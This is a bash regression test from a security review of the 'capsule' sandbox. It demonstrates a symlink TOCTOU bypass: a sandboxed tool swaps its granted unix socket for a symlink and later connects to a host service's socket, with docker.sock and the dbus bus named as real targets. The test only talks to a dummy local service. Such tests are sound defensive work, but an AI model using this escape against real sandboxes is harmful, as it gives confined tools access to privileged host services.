#!/bin/bash
# Finding (unix-socket supervisor, setup TOCTOU across runs): a granted unix
# socket is recognised by stat() of its grant path, which follows symlinks
# (src/sandbox/landlock.c sandbox_grant_is_unix_socket, and the (dev, ino)
# taken in src/sandbox/supervise.c supervise_prepare), while the grant
# itself is bound as the symlink it is. A tool that could write the
# socket's directory in an earlier run replaces the socket with a symlink
# to a host service's socket (docker.sock, the dbus system bus ...): the
# next run "grants" that host socket's identity, and when a read grant
# shows it (`--allow-read /`, Covenant's host filesystem, /run), the tool
# connects to it, which docs/sandbox.md says a socket in a read-only
# granted directory never allows. Root and uid 65534.
# Exits 1 when the tool reaches the host service, 0 when refused.
capsule=$(realpath "${1:-build/capsule}")
command -v python3 >/dev/null || { echo "SKIP: no python3"; exit 77; }
D=$(mktemp -d /var/tmp/capsule-review2-sock.XXXXXX); srv=
trap '[ -n "$srv" ] && kill $srv 2>/dev/null; rm -rf "$D"' EXIT
chmod 755 "$D"; mkdir -p "$D/hostsvc" "$D/ws"; chmod 755 "$D/hostsvc"; chmod 777 "$D/ws"
python3 - "$D/hostsvc/host.sock" <<'PY' &
import os, socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.bind(sys.argv[1]); os.chmod(sys.argv[1], 0o777); s.listen(8)
while True:
    c, _ = s.accept(); c.sendall(b"HOST-SERVICE-ANSWER\n"); c.close()
PY
srv=$!
for _ in $(seq 50); do [ -S "$D/hostsvc/host.sock" ] && break; sleep 0.1; done
# the project's own socket, which the operator grants to the tool
python3 -c "import socket,sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])" "$D/ws/app.sock"
chmod 777 "$D/ws/app.sock"
probe="import socket,sys
s=socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect(sys.argv[1]); print(s.recv(100).decode().strip())
except OSError as e: print('refused:', e)"
fail=0
for who in root nobody; do
  pre=()
  if [ "$who" = nobody ]; then
    [ "$(id -u)" = 0 ] || continue
    pre=(setpriv --reuid=65534 --regid=65534 --clear-groups --)
  fi
  rm -f "$D/ws/app.sock.lnk"
  ctl=$(cd /tmp && "${pre[@]}" "$capsule" run --allow-read "$D/hostsvc" --allow-rw "$D/ws/app.sock" -- \
    python3 -c "$probe" "$D/hostsvc/host.sock" 2>&1)
  echo "$who, control (socket in a read grant): $ctl"
  # run 1 (the tool has its workspace): the socket becomes a symlink to the host's
  (cd /tmp && "${pre[@]}" "$capsule" run --allow-rw "$D/ws" -- /bin/sh -c \
    "rm -f $D/ws/app.sock && ln -s $D/hostsvc/host.sock $D/ws/app.sock") 2>&1
  # run 2: the same grants as the control
  out=$(cd /tmp && "${pre[@]}" "$capsule" run --allow-read "$D/hostsvc" --allow-rw "$D/ws/app.sock" -- \
    python3 -c "$probe" "$D/hostsvc/host.sock" 2>&1)
  echo "$who, after the swap: $out"
  grep -q HOST-SERVICE-ANSWER <<<"$out" && ! grep -q HOST-SERVICE-ANSWER <<<"$ctl" && fail=1
  rm -f "$D/ws/app.sock"
  python3 -c "import socket,sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])" "$D/ws/app.sock"
  chmod 777 "$D/ws/app.sock"
done
if [ "$fail" = 1 ]; then
  echo "VULNERABLE: a host service's socket in a read-only grant was reached"; exit 1
fi
echo blocked; exit 0
